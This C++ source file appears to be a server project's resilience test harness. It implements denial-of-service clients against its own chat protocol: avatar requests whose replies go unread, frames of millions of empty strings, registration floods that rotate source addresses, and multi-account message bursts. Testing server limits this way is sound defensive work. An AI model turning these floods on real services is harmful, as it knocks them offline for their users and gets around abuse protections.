// Attacks through jobs: (c) avatar requests whose replies are never read, (d) frames of millions
// of empty strings, (e) registrations in flight, (f) message bursts over reconnects and accounts.
#include <memory>
#include <random>

#include "AttackPeer.h"
#include "Attacks.h"
#include "bytes.h"
#include "protocol/PasswordDigest.h"

namespace attack {
namespace {

using namespace std::chrono_literals;

// (c) A 24-bit BMP of side x side pixels of noise: at 57 pixels just under the server's default
// avatar limit of 10,240 bytes, so every request brings back nearly the largest reply there is.
std::vector<uint8_t> noisePicture(int side) {
    const uint32_t row = (static_cast<uint32_t>(side) * 3 + 3) & ~3u;
    const uint32_t pixels = row * static_cast<uint32_t>(side);
    std::vector<uint8_t> file;
    drovik::ByteWriter w(file);
    w.u8('B');
    w.u8('M');
    w.u32(54 + pixels);
    w.u32(0);
    w.u32(54);
    w.u32(40);
    w.i32(side);
    w.i32(side);
    w.u16(1);
    w.u16(24);
    w.u32(0);  // no compression
    w.u32(pixels);
    w.i32(2835);
    w.i32(2835);
    w.u32(0);
    w.u32(0);
    std::minstd_rand random(57);
    for (int y = 0; y < side; ++y)
        for (uint32_t x = 0; x < row; ++x)
            w.u8(x < static_cast<uint32_t>(side) * 3 ? static_cast<uint8_t>(random()) : 0);
    return file;
}

asio::awaitable<void> avatarHoarder(const AttackTarget &t, AttackCounts &c, uint32_t address,
                                    std::shared_ptr<const std::vector<uint8_t>> picture) {
    AttackPeer peer(co_await asio::this_coro::executor, SourceAddress(address), t.server, t.tls);
    const std::string name = "hoarder" + std::to_string(address);
    bool registered = false, uploaded = false;
    while (t.running()) {
        if (!co_await peer.connect() || !co_await peer.handshake()) {
            ++c.connectFailures;
            co_await Pause(1s);
            continue;
        }
        ++c.connections;
        if (!co_await peer.login(name, !registered)) {
            ++c.refused;
            co_await Pause(1s);
            continue;
        }
        registered = true;
        if (!uploaded) {
            ParamList p;
            p.addMemory(*picture);
            ++c.jobs;
            if (co_await peer.call("User_SetProfileAvatar", p) != 1) {
                ++c.refused;
                co_await Pause(1s);
                continue;
            }
            ++c.accepted;
            uploaded = true;
        }
        // From here on nothing is read: requests leave as fast as the server takes them in.
        while (t.running()) {
            wire::Frame batch;
            for (int i = 0; i < 64; ++i) {
                wire::Frame f = peer.jobFrame("User_GetProfileAvatar", {}, DROVIK_TYPE_MEMORY);
                batch.insert(batch.end(), f.begin(), f.end());
            }
            if (!co_await peer.send(batch))
                break;
            c.jobs += 64;
            c.bytes += batch.size();
        }
        if (!peer.open())
            ++c.closedByServer;
    }
}

// (d) A JOB frame of `frameLength` bytes whose parameter list is nothing but empty strings, made
// from what the codec encodes for one and two of them.
wire::Frame emptyStrings(uint32_t frameLength) {
    ParamList one, two;
    one.addString("");
    two.addString("");
    two.addString("");
    wire::Frame frame = wire::encodeJob(1, DROVIK_TYPE_LONG, "User_Login", one);
    const size_t valueSize =
        wire::encodeJob(1, DROVIK_TYPE_LONG, "User_Login", two).size() - frame.size();
    const std::vector<uint8_t> value(frame.end() - static_cast<ptrdiff_t>(valueSize), frame.end());
    frame.resize(frame.size() - valueSize);
    const size_t countAt = frame.size() - 4;
    const size_t count = (size_t{frameLength} + 4 - frame.size()) / valueSize;
    frame.reserve(frame.size() + count * valueSize);
    for (size_t i = 0; i < count; ++i)
        frame.insert(frame.end(), value.begin(), value.end());
    drovik::ByteWriter w(frame);
    w.patchU32(countAt, static_cast<uint32_t>(count));
    w.patchU32(0, static_cast<uint32_t>(frame.size() - 4));
    return frame;
}

struct EmptyStringFrames {
    wire::Frame largest;  // as large as the wire format allows: 3.3 million strings
    wire::Frame fitting;  // as large as the server's frame limit
};

asio::awaitable<void> emptyStringPeer(const AttackTarget &t, AttackCounts &c, uint32_t address,
                                      std::shared_ptr<const EmptyStringFrames> frames) {
    AttackPeer peer(co_await asio::this_coro::executor, SourceAddress(address), t.server, t.tls);
    for (uint64_t round = 0; t.running(); ++round) {
        if (!co_await peer.connect() || !co_await peer.handshake()) {
            ++c.connectFailures;
            co_await Pause(100ms);
            continue;
        }
        ++c.connections;
        ++c.handshakes;
        const wire::Frame &frame = round % 2 == 0 ? frames->largest : frames->fitting;
        ++c.jobs;
        if (co_await peer.send(frame))
            c.bytes += frame.size();
        co_await peer.drainUntilClosed();
        ++c.closedByServer;
    }
}

// (e) One connection keeping its registrations in flight; with rotation, an address whose
// registrations are all refused is left for a fresh one.
asio::awaitable<void> registrar(const AttackTarget &t, AttackCounts &c, int index,
                                std::shared_ptr<uint32_t> nextAddress) {
    const auto executor = co_await asio::this_coro::executor;
    const std::string digest = PasswordDigest("attack-password");
    const int inFlightLimit = t.sizes.registrationsInFlight;
    uint32_t address = (*nextAddress)++;
    uint64_t serial = 0;
    while (t.running()) {
        AttackPeer peer(executor, SourceAddress(address), t.server, t.tls);
        if (!co_await peer.connect() || !co_await peer.handshake()) {
            ++c.connectFailures;
            co_await Pause(100ms);
            continue;
        }
        ++c.connections;
        ++c.handshakes;
        int inFlight = 0, refusedInRow = 0;
        while (peer.open() && t.running()) {
            while (inFlight < inFlightLimit && peer.open()) {
                ParamList p;
                p.addString("r" + std::to_string(index) + "x" + std::to_string(serial++));
                p.addString(digest);
                p.addLong(15);
                if (co_await peer.send(peer.jobFrame("User_Register", p))) {
                    ++inFlight;
                    ++c.jobs;
                }
            }
            auto frame = co_await peer.nextFrame();
            if (!frame || frame->type != wire::FrameType::Result)
                break;
            auto result = wire::decodeResult(frame->body);
            if (!result)
                break;
            --inFlight;
            if (ResultCode(*result) == 1) {
                ++c.accepted;
                refusedInRow = 0;
            } else {
                ++c.refused;
                ++refusedInRow;
            }
            if (t.sizes.rotateAddresses && refusedInRow >= inFlightLimit)
                break;  // this address is spent
        }
        if (!peer.open() && t.running())
            ++c.closedByServer;
        peer.close();
        if (t.sizes.rotateAddresses)
            address = (*nextAddress)++;
    }
}

// (f) An account that logs in, sends a burst of global messages and private ones to the
// well-behaved account with as many in flight as a connection may have, logs out, and again.
asio::awaitable<void> messenger(const AttackTarget &t, AttackCounts &c, uint32_t address,
                                int account) {
    constexpr int kBurst = 64, kInFlight = 16;
    AttackPeer peer(co_await asio::this_coro::executor, SourceAddress(address), t.server, t.tls);
    const std::string name = "flooder" + std::to_string(address) + "_" + std::to_string(account);
    bool registered = false;
    uint64_t serial = 0;
    while (t.running()) {
        if (!co_await peer.connect() || !co_await peer.handshake()) {
            ++c.connectFailures;
            co_await Pause(100ms);
            continue;
        }
        ++c.connections;
        ++c.handshakes;
        if (!co_await peer.login(name, !registered)) {
            ++c.refused;
            co_await Pause(500ms);
            continue;
        }
        registered = true;
        int sent = 0, answered = 0, inFlight = 0;
        while (peer.open() && answered < kBurst) {
            while (inFlight < kInFlight && sent < kBurst && peer.open()) {
                ParamList p;
                const bool toGood = sent % 4 == 0;
                if (toGood)
                    p.addString(t.goodName);
                p.addString("burst " + std::to_string(serial++) + " from " + name);
                if (co_await peer.send(
                        peer.jobFrame(toGood ? "User_SendMessage" : "User_SendGlobalMessage", p))) {
                    ++sent;
                    ++inFlight;
                    ++c.jobs;
                }
            }
            auto frame = co_await peer.nextFrame();
            if (!frame || frame->type != wire::FrameType::Result)
                break;
            auto result = wire::decodeResult(frame->body);
            if (!result)
                break;
            --inFlight;
            ++answered;
            if (ResultCode(*result) == 1)
                ++c.accepted;
            else
                ++c.refused;
        }
        if (peer.open())
            co_await peer.call("User_Logout", {});
        else if (t.running())
            ++c.closedByServer;
        peer.close();
    }
}

}  // namespace

void StartAvatarHoarders(asio::io_context &io, const AttackTarget &t, AttackCounts &c) {
    auto picture = std::make_shared<const std::vector<uint8_t>>(noisePicture(57));
    for (int i = 0; i < t.sizes.avatarClients; ++i)
        asio::co_spawn(io, avatarHoarder(t, c, static_cast<uint32_t>(i), picture), asio::detached);
}

void StartEmptyStrings(asio::io_context &io, const AttackTarget &t, AttackCounts &c) {
    auto frames = std::make_shared<EmptyStringFrames>();
    frames->largest = emptyStrings(wire::kMaxFrameLength);
    frames->fitting = emptyStrings(t.frameLimit);
    for (int i = 0; i < t.sizes.emptyStringPeers; ++i)
        asio::co_spawn(io, emptyStringPeer(t, c, static_cast<uint32_t>(i), frames), asio::detached);
}

void StartRegistrations(asio::io_context &io, const AttackTarget &t, AttackCounts &c) {
    auto nextAddress = std::make_shared<uint32_t>(0);
    for (int i = 0; i < t.sizes.registrationConnections; ++i)
        asio::co_spawn(io, registrar(t, c, i, nextAddress), asio::detached);
}

void StartMessageBursts(asio::io_context &io, const AttackTarget &t, AttackCounts &c) {
    for (int a = 0; a < t.sizes.messageAddresses; ++a)
        for (int k = 0; k < t.sizes.accountsPerAddress; ++k)
            asio::co_spawn(io, messenger(t, c, static_cast<uint32_t>(a), k), asio::detached);
}

}  // namespace attack
